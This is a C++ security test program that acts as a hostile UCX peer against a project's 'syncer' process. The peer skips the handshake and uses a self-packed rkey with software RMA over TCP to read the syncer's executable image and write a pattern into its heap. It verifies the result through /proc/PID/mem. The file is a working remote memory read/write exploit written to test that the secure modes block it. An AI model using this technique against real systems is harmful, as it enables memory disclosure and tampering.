// A hostile peer of the syncer, written against UCX directly (docs/security.md, "Tests"): it
// connects to the syncer's address, never sends a hello, and tries to read and write the
// syncer's memory with one-sided operations carried by an rkey it packed itself. Over TCP, UCX
// executes a peer's gets and puts in software at whatever address the peer names, without
// checking any key (src/ucp/rma/rma_sw.c): this is what the trusted mode exposes and what the
// secure modes must not.
//
//   hostile_ucx_client ADDR PID [--put]
//
// ADDR is the syncer's ip:port, PID its process. It reads 64 bytes of the syncer's executable
// image (the address from /proc/PID/maps, the truth to compare with from /proc/PID/mem). With
// --put it also writes 64 bytes of a pattern at the heap's start + 64 KiB and checks
// /proc/PID/mem for it.
// Exit status: 0 the attack got nothing (no byte read equals the syncer's memory, nothing
// written); 1 it read or wrote the syncer's memory; 77 /proc/PID/mem cannot be read here;
// 2 usage. Every step is bounded (5 s): it never waits forever for a syncer that does not answer.
#include <arpa/inet.h>
#include <netdb.h>
#include <sys/socket.h>
#include <ucp/api/ucp.h>
#include <unistd.h>

#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;

// The start of the first mapping whose line contains `what` ("[heap]", or the executable's path).
bool mapping_start(long pid, const std::string& what, uint64_t& start) {
  std::ifstream maps("/proc/" + std::to_string(pid) + "/maps");
  std::string line;
  while (std::getline(maps, line)) {
    if (line.find(what) == std::string::npos) continue;
    start = std::stoull(line.substr(0, line.find('-')), nullptr, 16);
    return true;
  }
  return false;
}

bool read_mem(long pid, uint64_t at, std::vector<char>& out) {
  std::ifstream mem("/proc/" + std::to_string(pid) + "/mem", std::ios::binary);
  if (!mem) return false;
  mem.seekg(static_cast<std::streamoff>(at));
  mem.read(out.data(), static_cast<std::streamsize>(out.size()));
  return static_cast<size_t>(mem.gcount()) == out.size();
}

// Progresses until the request completes or 5 s pass; the status, or UCS_ERR_TIMED_OUT.
ucs_status_t wait(ucp_worker_h worker, ucs_status_ptr_t req) {
  if (req == nullptr) return UCS_OK;
  if (UCS_PTR_IS_ERR(req)) return UCS_PTR_STATUS(req);
  const auto deadline = Clock::now() + std::chrono::seconds(5);
  ucs_status_t s;
  while ((s = ucp_request_check_status(req)) == UCS_INPROGRESS && Clock::now() < deadline) {
    if (ucp_worker_progress(worker) == 0) std::this_thread::sleep_for(std::chrono::milliseconds(1));
  }
  return s;  // a request still in flight is left to UCX: the process exits next
}

void on_error(void*, ucp_ep_h, ucs_status_t status) {
  std::printf("endpoint error: %s\n", ucs_status_string(status));
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 3) {
    std::fprintf(stderr, "usage: hostile_ucx_client ADDR PID [--put]\n");
    return 2;
  }
  const std::string addr = argv[1];
  const long pid = std::stol(argv[2]);
  const bool try_put = argc > 3 && std::string(argv[3]) == "--put";
  // What is read: the syncer's program headers, just after its ELF header (constant while it
  // runs, so the bytes a get returns can be compared exactly); what is written: its heap.
  std::error_code ec;
  const std::string exe = std::filesystem::read_symlink("/proc/" + std::to_string(pid) + "/exe", ec).string();
  uint64_t image = 0, heap = 0;
  std::vector<char> truth(64);
  if (ec || !mapping_start(pid, exe, image) || !mapping_start(pid, "[heap]", heap) ||
      !read_mem(pid, image + 64, truth)) {
    std::printf("cannot read /proc/%ld/mem here: skipped\n", pid);
    return 77;
  }
  const auto colon = addr.rfind(':');
  sockaddr_in sa{};
  sa.sin_family = AF_INET;
  sa.sin_port = htons(static_cast<uint16_t>(std::stoi(addr.substr(colon + 1))));
  inet_pton(AF_INET, addr.substr(0, colon).c_str(), &sa.sin_addr);

  ucp_params_t params{};
  params.field_mask = UCP_PARAM_FIELD_FEATURES;
  params.features = UCP_FEATURE_RMA | UCP_FEATURE_AMO64 | UCP_FEATURE_AM;
  ucp_context_h ctx;
  if (ucp_init(&params, nullptr, &ctx) != UCS_OK) return 2;
  ucp_worker_params_t wp{};
  ucp_worker_h worker;
  if (ucp_worker_create(ctx, &wp, &worker) != UCS_OK) return 2;
  ucp_ep_params_t ep_params{};
  ep_params.field_mask = UCP_EP_PARAM_FIELD_FLAGS | UCP_EP_PARAM_FIELD_SOCK_ADDR |
                         UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE | UCP_EP_PARAM_FIELD_ERR_HANDLER;
  ep_params.flags = UCP_EP_PARAMS_FLAGS_CLIENT_SERVER;
  ep_params.sockaddr.addr = reinterpret_cast<const sockaddr*>(&sa);
  ep_params.sockaddr.addrlen = sizeof sa;
  ep_params.err_mode = UCP_ERR_HANDLING_MODE_PEER;
  ep_params.err_handler.cb = on_error;
  ucp_ep_h ep;
  if (ucp_ep_create(worker, &ep_params, &ep) != UCS_OK) {
    std::printf("connect: refused at once\n");
    return 0;
  }
  // An rkey of our own memory: software RMA over TCP never checks it against the target's.
  std::vector<char> mine(1 << 20);
  ucp_mem_map_params_t mp{};
  mp.field_mask = UCP_MEM_MAP_PARAM_FIELD_ADDRESS | UCP_MEM_MAP_PARAM_FIELD_LENGTH;
  mp.address = mine.data();
  mp.length = mine.size();
  ucp_mem_h memh;
  void* packed = nullptr;
  size_t packed_size = 0;
  if (ucp_mem_map(ctx, &mp, &memh) != UCS_OK || ucp_rkey_pack(ctx, memh, &packed, &packed_size) != UCS_OK) return 2;
  ucp_rkey_h rkey = nullptr;
  const ucs_status_t unpacked = ucp_ep_rkey_unpack(ep, packed, &rkey);
  std::printf("rkey unpack: %s\n", ucs_status_string(unpacked));
  bool got = false, wrote = false;
  if (unpacked == UCS_OK) {
    std::vector<char> got_bytes(64, 0);
    ucp_request_param_t rp{};
    const ucs_status_t s =
        wait(worker, ucp_get_nbx(ep, got_bytes.data(), got_bytes.size(), image + 64, rkey, &rp));
    got = s == UCS_OK && got_bytes == truth;
    std::printf("get at the syncer's image + 64 (0x%llx): %s; bytes %s the syncer's memory\n",
                static_cast<unsigned long long>(image + 64), ucs_status_string(s), got ? "EQUAL" : "not equal to");
    if (try_put) {
      std::vector<char> pattern(64);
      for (size_t i = 0; i < pattern.size(); ++i) pattern[i] = static_cast<char>(0xA5 ^ i);
      const uint64_t at = heap + (64 << 10);
      const ucs_status_t p = wait(worker, ucp_put_nbx(ep, pattern.data(), pattern.size(), at, rkey, &rp));
      (void)wait(worker, ucp_ep_flush_nbx(ep, &rp));
      std::vector<char> after(64);
      wrote = read_mem(pid, at, after) && after == pattern;
      std::printf("put at the heap + 64 KiB: %s; the pattern %s in the syncer's memory\n", ucs_status_string(p),
                  wrote ? "IS" : "is not");
    }
    ucp_rkey_destroy(rkey);
  }
  std::printf("%s\n", got || wrote ? "ATTACK SUCCEEDED: the syncer's memory was reached" : "attack got nothing");
  std::fflush(stdout);
  _exit(got || wrote ? 1 : 0);  // no graceful close: a hostile peer does not say goodbye
}
